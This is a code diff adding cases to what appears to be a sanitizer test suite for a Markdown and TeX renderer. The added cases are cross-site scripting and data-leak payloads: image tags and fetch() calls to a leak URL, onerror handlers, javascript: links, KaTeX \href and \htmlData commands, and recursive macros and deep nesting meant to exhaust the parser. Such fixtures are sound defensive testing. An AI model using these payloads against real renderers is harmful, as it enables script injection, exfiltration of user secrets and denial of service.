@@ -44,6 +44,12 @@ export function hostileMarkup(origin: string): HostileCase[] {
     ['svg in a line', `a <svg onload="fetch('${leak}')"> b`, '1 HTML tag'],
     ['math', `<math><maction actiontype="statusline#${leak}" xlink:href="${leak}">x</maction></math>`, '2 HTML tags'],
     ['formula', `$\\href{${leak}}{x}$ and $$\\includegraphics{${leak}}$$`],
+    ...hostileFormulas(leak).map((tex): HostileCase => [
+      `formula with ${tex.slice(0, 16)}`,
+      `$$${tex}$$\n\nand \\(${tex}\\)`,
+    ]),
+    ['formula over lines', `$$\n\\def\\a{\\href{${leak}}{x}}\n\\a\n$$\n\n\\[\n<img src="${leak}">\n\\]`],
+    ['formulas without end', `${'$$\\frac{'.repeat(300)} ${'\\('.repeat(3000)} ![x](${leak})`, '1 picture'],
     ['template and slot', `<template shadowrootmode=open><img src="${leak}"></template>`, '2 HTML tags'],
     ['element of its own name', `<x-leak onclick=alert(1)></x-leak>`, '1 HTML tag'],
     ['event in every tag', `<b onmouseover="location='${leak}'">x</b> <i onwheel=alert(1)>y</i>`, '2 HTML tags'],
@@ -58,6 +64,11 @@ export function hostileMarkup(origin: string): HostileCase[] {
     ['HTML in a code block', `\`\`\`html\n<img src="${leak}">\n\`\`\``],
     ['HTML in a code block without an end', `\`\`\`"><img src=${leak}>\n<img src="${leak}">`],
     ['HTML in code in a line', `\`<img src="${leak}">\` and \`&lt;b&gt;\``],
+    ...['html', 'js', 'css', 'svg', 'markdown', 'php'].map((language): HostileCase => [
+      `code in ${language}`,
+      `\`\`\`${language}\n<img src="${leak}" onerror=alert(1)><style>@import "${leak}";</style>\n[x](${leak})\n\`\`\``,
+    ]),
+    ['language that is HTML', `\`\`\`<img/src="${leak}">\nx\n\`\`\`\n\n~~~js" onload="fetch('${leak}')\nx\n~~~`],
     ['HTML by four spaces', `    <img src="${leak}">`],
     ['table', `| a | b |\n|---|---|\n| ![x](${leak}) | <img src="${leak}"> |`, '1 picture and 1 HTML tag'],
     ['head of a table', `| ![x](${leak}) |\n|---|\n| [x](javascript:alert) |`, '1 picture and 1 link'],
@@ -66,6 +77,12 @@ export function hostileMarkup(origin: string): HostileCase[] {
     ['heading', `# ![x](${leak})\n\n[x](${leak})\n---`, '1 picture'],
     ['quotation', `> ![x](${leak})\n> > <img src="${leak}">`, '1 picture and 1 HTML tag'],
     ['footnote', `Text[^1]\n\n[^1]: ${leak}`],
+    [
+      'footnote with all of it',
+      `Text[^1]\n\n[^1]: ![x](${leak}) <b>x</b>\n    [y](javascript:alert)`,
+      '1 picture, 1 link and 1 HTML tag',
+    ],
+    ['footnote whose name is HTML', `Text[^<img/src="${leak}">]\n\n[^<img/src="${leak}">]: x`],
     ['direction of the whole text', `\u202Edesrever si siht \u2066 and [x](${leak}) \u2069 on`],
     ['text between zero-width characters', `se\u200Bcr\u200Det ${[...secret].join('\u2063')}`],
     ['broken UTF-16', `\uD800 \uDC00 ![\uDBFF](${leak}) \uFFFE \u0000 end`, '1 picture'],
@@ -81,5 +98,23 @@ export function hostileMarkup(origin: string): HostileCase[] {
     ['very long', `${'The sky is [blue](https://sky.invalid/). '.repeat(500)}![x](${leak})`, '1 picture'],
     ['too long to parse', `![x](${leak})\n\n${'The sky is blue. '.repeat(8000)}`],
     ['Markdown of every kind left open', `**bold _and ~~on [x](${leak} \`and\n\n| a |\n|--`],
+  ];
+}
+
+/** Commands that make links, pictures, attributes and loops of formulas, where a reader of TeX trusts them. */
+function hostileFormulas(leak: string): string[] {
+  return [
+    `\\href{${leak}}{x}`,
+    `\\url{${leak}}`,
+    `\\includegraphics[height=1em]{${leak}}`,
+    `\\htmlId{${secret}}{x} \\htmlClass{a}{y}`,
+    `\\htmlStyle{background:url(${leak})}{x}`,
+    `\\htmlData{src=${leak}}{x}`,
+    `\\color{url(${leak})}x \\textcolor{javascript:alert}{y}`,
+    `\\colorbox{#fff}{x} \\rule{9999em}{9999em}`,
+    `\\def\\a{\\a\\a}\\a`,
+    `\\text{<img src="${leak}" onerror=alert(1)>}`,
+    `\\unicode{x202E} \\char"202E \\tag{${secret}}`,
+    `${'{'.repeat(500)}x${'}'.repeat(500)}`,
   ];
 }
